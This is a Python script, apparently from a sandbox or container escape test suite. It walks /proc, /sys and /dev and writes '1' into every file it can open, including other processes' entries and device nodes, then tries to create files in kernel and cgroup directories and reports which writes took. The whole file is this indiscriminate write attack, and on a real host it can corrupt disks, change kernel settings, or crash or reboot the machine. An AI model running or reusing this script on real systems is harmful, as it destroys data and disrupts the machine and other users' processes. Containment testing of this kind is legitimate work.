"""Walks /proc and /sys and writes to every file there, its own processes' and
its neighbours' included. Prints the paths that took it."""

import os

from attack import Hang, alarm, outcomes, report
import signal

own = {str(os.getpid()), "self", "thread-self"}
tried = 0


def attack(path):
    global tried
    tried += 1
    signal.alarm(5)
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        try:
            if os.write(fd, b"1\n"):
                outcomes[path] = "done"
        finally:
            os.close(fd)
    except Hang:
        outcomes[path] = "no answer"
    except OSError:
        pass
    finally:
        signal.alarm(0)


for top in ("/proc", "/sys", "/dev"):
    for folder, folders, files in os.walk(top):
        if top == "/proc" and folder == "/proc":
            folders[:] = [f for f in folders if f not in own]
        if top == "/dev":
            # Terminals and shared memory are there to be written to.
            folders[:] = [f for f in folders if f not in ("pts", "shm", "fd")]
        for name in files:
            if name in ("stdin", "stdout", "stderr"):
                continue
            attack(os.path.join(folder, name))

for folder in ("/proc", "/sys", "/sys/kernel", "/sys/fs/cgroup", "/proc/sys", "/proc/sys/kernel"):
    try:
        open(os.path.join(folder, "new"), "w")
        outcomes[folder + "/new"] = "done"
    except OSError:
        pass
outcomes["tried"] = str(tried)
report()
